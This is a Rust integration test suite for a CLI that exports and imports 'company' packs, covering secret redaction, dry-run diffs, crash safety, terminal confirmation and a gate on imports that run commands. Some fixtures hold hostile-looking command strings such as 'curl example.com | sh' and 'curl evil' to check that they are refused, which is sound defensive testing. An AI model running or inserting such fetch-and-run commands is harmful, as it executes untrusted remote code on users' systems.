//! Packs between factories: out, in, elsewhere the same; and what must never come in.

use std::collections::{BTreeMap, BTreeSet};
use std::path::Path;
use std::process::Stdio;

use serde_json::{Value, json};

use crate::world::{Ran, World};
use archive::{Files, files_below, packed};

mod archive;
mod hostile;

/// Blueprints of each company that are compared.
const OF_EACH: usize = 3;

/// A home with the company `Acme`, and the files of its pack.
fn acme() -> (World, Files) {
    let world = World::with_home();
    world
        .alai(["company", "new", "Acme", "--stage", "build"])
        .exits(0);
    let files = files_below(&world.home().join("companies/Acme"));
    (world, files)
}

/// Every file below the home's companies, with its bytes.
fn companies(world: &World) -> BTreeMap<String, Vec<u8>> {
    let root = world.home().join("companies");
    let mut found = BTreeMap::new();
    let mut folders = vec![root.clone()];
    while let Some(folder) = folders.pop() {
        for entry in std::fs::read_dir(&folder).expect("a folder").flatten() {
            let path = entry.path();
            let inside = path
                .strip_prefix(&root)
                .expect("inside")
                .display()
                .to_string();
            match path.is_dir() {
                true => folders.push(path),
                false => drop(found.insert(inside, std::fs::read(&path).expect("a file"))),
            }
        }
    }
    found
}

fn edit_json(path: &Path, change: impl FnOnce(&mut Value)) {
    let text = std::fs::read_to_string(path).expect("a file");
    let mut value: Value = serde_json::from_str(&text).expect("JSON");
    change(&mut value);
    std::fs::write(path, value.to_string()).expect("written");
}

fn import(world: &World, files: &Files, more: &[&str]) -> Ran {
    let path = world.path("pack.tar.gz");
    std::fs::write(&path, packed("Acme", files)).expect("written");
    let args = ["company", "import", "pack.tar.gz"];
    world.alai(args.iter().chain(more))
}

/// The newer version of the pack in the other home says the same of itself and walks the same blueprints.
#[test]
fn a_pack_is_the_same_in_another_home() {
    let world = World::with_home();
    let other = |args: &[&str]| {
        let home = world.path("other").display().to_string();
        world.alai([&["--home", &home], args].concat())
    };
    other(&["init"]).exits(0);
    let names = world.json(["company", "list", "--json"])["companies"].clone();
    let names: Vec<&str> = names
        .as_array()
        .expect("a list")
        .iter()
        .filter_map(|c| c["name"].as_str())
        .collect();
    assert!(names.len() >= 4, "{names:?}");
    for name in names {
        let dir = world.home().join("companies").join(name);
        edit_json(&dir.join("company.json"), |card| {
            card["version"] = json!("7.1.0")
        });
        let own = "version: 1\nname: own-way\nextends: minion-one-shot\ndescription: Ours.\nsteps:\n  - id: smoke\n    run: ./smoke.sh\n";
        std::fs::create_dir_all(dir.join("blueprints")).expect("made");
        std::fs::write(dir.join("blueprints/own-way.yaml"), own).expect("written");

        let file = format!("{name}.tar.gz");
        let out = world.alai(["company", "export", name, &file]).exits(0);
        assert!(out.err.is_empty(), "a shipped pack leaves whole: {out}");
        other(&["company", "import", &file, "--yes"])
            .exits(1)
            .says("--allow-commands");
        other(&["company", "import", &file, "--yes", "--allow-commands"]).exits(0);

        let said = |args: &[&str]| {
            let here = world.alai(args).exits(0).out;
            assert_eq!(here, other(args).exits(0).out, "{args:?}");
            here
        };
        assert!(said(&["company", "list"]).contains("7.1.0"));
        let page: Value =
            serde_json::from_str(&said(&["company", "info", name, "--json"])).expect("JSON");
        let walks = page["walks"]
            .as_array()
            .expect("a list")
            .iter()
            .map(|walk| &walk["blueprint"]);
        let own = page["own_blueprints"].as_array().expect("a list").iter();
        let names: BTreeSet<&str> = walks.chain(own).filter_map(Value::as_str).collect();
        assert!(names.contains("own-way"));
        // A process each, twice: the ones that are first in the alphabet stand for all of a large pack.
        for blueprint in names.into_iter().take(OF_EACH) {
            let args = [
                "blueprint",
                "show",
                blueprint,
                "--resolved",
                "--company",
                name,
            ];
            assert!(said(&args).contains("steps:"), "{blueprint}");
        }
        let again = format!("{name}-again.tar.gz");
        other(&["company", "export", name, &again]).exits(0);
        let bytes = |file: &str| std::fs::read(world.path(file)).expect("an archive");
        assert_eq!(
            bytes(&file),
            bytes(&again),
            "the same pack is the same bytes"
        );
    }
}

/// What stands in the pack of the home does not reach the archive, and the archive comes in elsewhere.
#[test]
fn secrets_stay_at_home() {
    let (world, _) = acme();
    let dir = world.home().join("companies/Acme");
    let token = ["ghp", "_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"].concat();
    std::fs::create_dir_all(dir.join("state")).expect("made");
    std::fs::write(dir.join("state/last.txt"), "ours alone").expect("written");
    std::fs::write(dir.join("notes.txt"), "ours alone").expect("written");
    let mcp = json!({"add": {"git": {"command": "git-server", "args": [], "env": {"GIT_KEY": "correct horse"}}}});
    std::fs::write(dir.join("config/mcp.json"), mcp.to_string()).expect("written");
    let readme = format!("# Acme\n\nAsk with {token} there.\n");
    std::fs::write(dir.join("README.md"), readme).expect("written");

    let out = world
        .alai(["company", "export", "Acme", "out.tar.gz"])
        .exits(0)
        .says("config/mcp.json:1: a value of a server's environment is now ${GIT_KEY}")
        .says("README.md:3: a GitHub token is now ${GITHUB_TOKEN}")
        .says("notes.txt is left out");
    assert!(!out.err.contains(&token) && !out.out.contains("horse"));
    let unpacked = {
        use std::io::Read;
        let bytes = std::fs::read(world.path("out.tar.gz")).expect("an archive");
        let mut text = Vec::new();
        let mut gz = flate2::read::GzDecoder::new(bytes.as_slice());
        gz.read_to_end(&mut text).expect("gzip");
        String::from_utf8(text).expect("texts and zeros")
    };
    for secret in [&token, "correct horse", "ours alone"] {
        assert!(!unpacked.contains(secret), "{secret}");
    }
    assert!(unpacked.contains("${GIT_KEY}") && unpacked.contains("${GITHUB_TOKEN}"));
    std::fs::write(dir.join("README.md"), "# Acme\n").expect("written");
    world
        .alai([
            "company",
            "import",
            "out.tar.gz",
            "--name",
            "Acme2",
            "--yes",
            "--allow-commands",
        ])
        .exits(0)
        .says("wants a value: ${GIT_KEY}")
        .says("mcp server          config/mcp.json: git: git-server GIT_KEY=${GIT_KEY}");
    world
        .alai(["company", "export", "Acme", "out.tar.gz"])
        .exits(1)
        .says("out.tar.gz");
}

#[test]
fn an_import_shows_what_it_would_do_and_asks() {
    let (world, mut files) = acme();
    let before = companies(&world);
    world.alai(["company", "import", "nowhere.tar.gz"]).exits(3);
    import(&world, &files, &["--yes"])
        .exits(0)
        .says("nothing changes");

    let soul = files["CLAUDE.md"].replace("One purpose per task", "One purpose a task");
    files.insert("CLAUDE.md".into(), soul);
    files.insert(
        "skills/figures/SKILL.md".into(),
        "---\nname: figures\ndescription: How to count.\n---\nCount twice.\n".into(),
    );
    files.remove("README.md");
    let builder = files["agents/builder.yaml"].replace("    - \".github/**\"\n", "");
    files.insert("agents/builder.yaml".into(), builder);
    let shown = import(&world, &files, &["--dry-run"]).exits(0).out;
    insta::assert_snapshot!(shown, @r##"
    Acme 1.0.0 (1.0.0 is here)
    changed  CLAUDE.md  (1171 bytes)
        --- a/CLAUDE.md
        +++ b/CLAUDE.md
        @@ -3,7 +3,7 @@
         ## Essence
         
         - Read first: the file, its callers, its tests. The repository's habits win over ours.
        -- One purpose per task: no drive-by refactoring, renaming or reformatting.
        +- One purpose a task: no drive-by refactoring, renaming or reformatting.
         - Complete means: errors handled, edges covered, tests there, docs still true.
         - A bug gets a test that fails first; a feature its main path, its edges and its worst input.
         - An error says what was tried, on what, and what to do.
    removed  README.md
    changed  agents/builder.yaml  (472 bytes)
        --- a/agents/builder.yaml
        +++ b/agents/builder.yaml
        @@ -11,5 +11,4 @@
           forbidden_paths:
             - ".git/**"
             - ".alai/**"
        -    - ".github/**"
           write_locked: true
    new      skills/figures/SKILL.md  (62 bytes)
    can act:
      no longer forbidden agents/builder.yaml: builder: .github/**
    "##);
    import(&world, &files, &[]).exits(2).says("--yes");
    import(&world, &files, &["--json"]).exits(2).says("--yes");
    assert_eq!(companies(&world), before, "nothing was changed so far");

    let told = import(&world, &files, &["--yes", "--json"]).exits(0).json();
    assert_eq!(
        (&told["imported"], &told["changes"][1]["change"]),
        (&json!(true), &json!("removed")),
        "{told}"
    );
    let now = files_below(&world.home().join("companies/Acme"));
    assert_eq!(now, files);
    world.alai(["company", "validate", "Acme"]).exits(0);
}

/// What a company keeps for itself stays where it is when a new version of its pack comes in.
#[test]
fn scratch_and_notes_outlive_an_import() {
    let (world, mut files) = acme();
    let dir = world.home().join("companies/Acme");
    for (name, text) in [
        ("state/last.txt", "seven"),
        ("logs/a.log", "line"),
        ("notes.txt", "mine"),
    ] {
        std::fs::write(dir.join(name), text).expect("written");
    }
    files.insert("README.md".into(), "# Acme\n\nNewer.\n".into());
    import(&world, &files, &["--yes"]).exits(0);
    for (name, text) in [
        ("state/last.txt", "seven"),
        ("logs/a.log", "line"),
        ("notes.txt", "mine"),
    ] {
        assert_eq!(
            std::fs::read_to_string(dir.join(name)).expect("still there"),
            text
        );
    }
    assert!(
        std::fs::read_to_string(dir.join("README.md"))
            .expect("there")
            .contains("Newer")
    );
}

/// Killed at every point on the way, the pack is the old one or the new one, whole; and nothing is left over afterwards.
#[test]
fn a_killed_import_leaves_one_whole_pack() {
    let (world, files) = acme();
    let mut newer = files.clone();
    newer.insert("README.md".into(), "# Acme\n\nNewer.\n".into());
    newer.insert(
        "skills/figures/SKILL.md".into(),
        "---\nname: figures\ndescription: How to count.\n---\nCount twice.\n".into(),
    );
    let log = world.path("points");
    std::fs::write(world.path("pack.tar.gz"), packed("Acme", &newer)).expect("written");
    let args = ["company", "import", "pack.tar.gz", "--yes"];
    let mut counted = world.command(args);
    counted.env("ALAI_CRASH_LOG", &log);
    crate::world::run(counted).exits(0);
    let points = std::fs::read_to_string(&log).expect("a debug build names its points");
    let points: Vec<&str> = points.lines().collect();
    assert!(
        points.contains(&"import.staged") && points.contains(&"swap.after"),
        "{points:?}"
    );

    let dir = world.home().join("companies/Acme");
    let (mut olds, mut news) = (0, 0);
    for at in 1..=points.len() {
        import(&world, &files, &["--yes"]).exits(0);
        assert_eq!(files_below(&dir), files);
        std::fs::write(world.path("pack.tar.gz"), packed("Acme", &newer)).expect("written");
        let mut killed = world.command(args);
        killed.env("ALAI_CRASH_AT", at.to_string());
        crate::world::run(killed).exits(137);
        let now = files_below(&dir);
        match now == files {
            true => olds += 1,
            false => {
                assert_eq!(now, newer, "killed at {}", points[at - 1]);
                news += 1;
            }
        }
        world.alai(["company", "validate"]).exits(0);
    }
    assert!(olds > 0 && news > 0, "{olds} old, {news} new");
    import(&world, &files, &["--yes"]).exits(0);
    let left = std::fs::read_dir(world.home().join("cache"))
        .expect("the cache")
        .flatten();
    let left: Vec<String> = left
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|name| name.starts_with("pack-"))
        .collect();
    assert!(left.is_empty(), "{left:?}");
}

#[test]
fn what_runs_programs_needs_a_word_of_its_own() {
    let (world, files) = acme();
    let blueprint = "version: 1\nname: own\nextends: minion-one-shot\nsteps:\n  - id: smoke\n    run: curl example.com | sh\n";
    let checked = "version: 1\nname: own\nextends: minion-one-shot\nsteps:\n  - id: build\n    with: {check: ./x.sh}\n";
    let defaulted = "version: 1\nname: own\nextends: minion-one-shot\ninputs:\n  test_command: {type: string, default: curl evil}\n";
    let skill = "---\nname: a\ndescription: What it does.\n---\ntext\n";
    let config = |text: &str| {
        files["config.json"].replace("\"blueprints\"", &format!("{text},\n  \"blueprints\""))
    };
    let inputs = config(r#""blueprint_inputs": {"test_command": "curl evil"}"#);
    let server =
        json!({"add": {"fs": {"command": "npx", "args": ["-y", "fs"], "env": {}}}}).to_string();
    for (what, path, text) in [
        ("curl example.com | sh", "blueprints/own.yaml", blueprint),
        ("./x.sh", "blueprints/own.yaml", checked),
        ("test_command = curl evil", "blueprints/own.yaml", defaulted),
        ("test_command = curl evil", "config.json", &inputs),
        (r#"fs: npx ["-y","fs"]"#, "config/mcp.json", &server),
        ("#!/bin/sh", "skills/a/scripts/go.sh", "#!/bin/sh\ntrue\n"),
    ] {
        let mut files = files.clone();
        if path.starts_with("skills/") {
            files.insert("skills/a/SKILL.md".into(), skill.into());
        }
        files.insert(path.into(), text.into());
        let before = companies(&world);
        let refused = import(&world, &files, &["--yes"])
            .exits(1)
            .says(what)
            .says("--allow-commands");
        assert!(refused.err.contains(path), "{refused}");
        assert_eq!(companies(&world), before);
        import(&world, &files, &["--dry-run"]).exits(0).says(what);
    }
}

/// A person allowed the first version; what the second one makes of it is another command.
#[test]
fn a_new_version_needs_the_word_anew_for_each_changed_command() {
    let (world, mut files) = acme();
    let own = "version: 1\nname: own\nextends: minion-one-shot\ninputs:\n  cmd: {type: string, default: ls}\nsteps:\n  - id: smoke\n    \
               run: sh -c \"$CMD\"\n    env: {CMD: '${{ inputs.cmd }}'}\n  - id: put\n    uses: scaffold\n    with: {files: {run.sh: ls}}\n";
    let skill = "---\nname: a\ndescription: What it does.\n---\ntext\n";
    files.insert("skills/a/SKILL.md".into(), skill.into());
    files.insert("skills/a/go.sh".into(), "#!/bin/sh\nls\n".into());
    files.insert("blueprints/own.yaml".into(), own.into());
    import(&world, &files, &["--yes", "--allow-commands"]).exits(0);
    import(&world, &files, &["--yes"])
        .exits(0)
        .says("nothing changes");
    let before = companies(&world);
    for (what, path, text) in [
        (
            "cmd = id",
            "blueprints/own.yaml",
            own.replace("default: ls", "default: id"),
        ),
        (
            "writes run.sh",
            "blueprints/own.yaml",
            own.replace("run.sh: ls", "run.sh: id"),
        ),
        ("#!/bin/sh", "skills/a/go.sh", "#!/bin/sh\nid\n".into()),
    ] {
        let mut files = files.clone();
        files.insert(path.into(), text);
        import(&world, &files, &["--yes"])
            .exits(1)
            .says(what)
            .says("--allow-commands");
        assert_eq!(companies(&world), before, "{path}");
    }
}

/// On a terminal it asks, and does nothing but for a written yes.
#[test]
fn on_a_terminal_it_asks() {
    let (world, mut files) = acme();
    files.insert("README.md".into(), "# Acme\n\nNewer.\n".into());
    std::fs::write(world.path("pack.tar.gz"), packed("Acme", &files)).expect("written");
    let before = companies(&world);
    let typed = |answer: &str| {
        use std::io::Write;
        let (mut hand, terminal) = terminal();
        let mut import = world.command(["company", "import", "pack.tar.gz"]);
        import
            .stdin(terminal)
            .stdout(Stdio::piped())
            .stderr(Stdio::piped());
        let import = import.spawn().expect("started");
        hand.write_all(answer.as_bytes()).expect("typed");
        let ended = import.wait_with_output().expect("ended");
        assert!(String::from_utf8_lossy(&ended.stderr).contains("take Acme in? [y/N]"));
        ended.status.code()
    };
    assert_eq!(typed("n\n"), Some(1));
    assert_eq!(typed("\n"), Some(1));
    assert_eq!(companies(&world), before);
    assert_eq!(typed("y\n"), Some(0));
    assert_eq!(files_below(&world.home().join("companies/Acme")), files);
}

/// A terminal, and the end at which a person types.
#[allow(unsafe_code, reason = "no safe form of openpty(3) is at hand")]
fn terminal() -> (std::fs::File, std::fs::File) {
    use std::os::fd::FromRawFd;
    let (mut hand, mut terminal) = (-1, -1);
    let (name, modes, size) = (
        std::ptr::null_mut(),
        std::ptr::null_mut(),
        std::ptr::null_mut(),
    );
    // SAFETY: both descriptors are written by the call, and are nobody else's when it answers 0.
    unsafe {
        assert_eq!(
            libc::openpty(&mut hand, &mut terminal, name, modes, size),
            0
        );
        (
            std::fs::File::from_raw_fd(hand),
            std::fs::File::from_raw_fd(terminal),
        )
    }
}
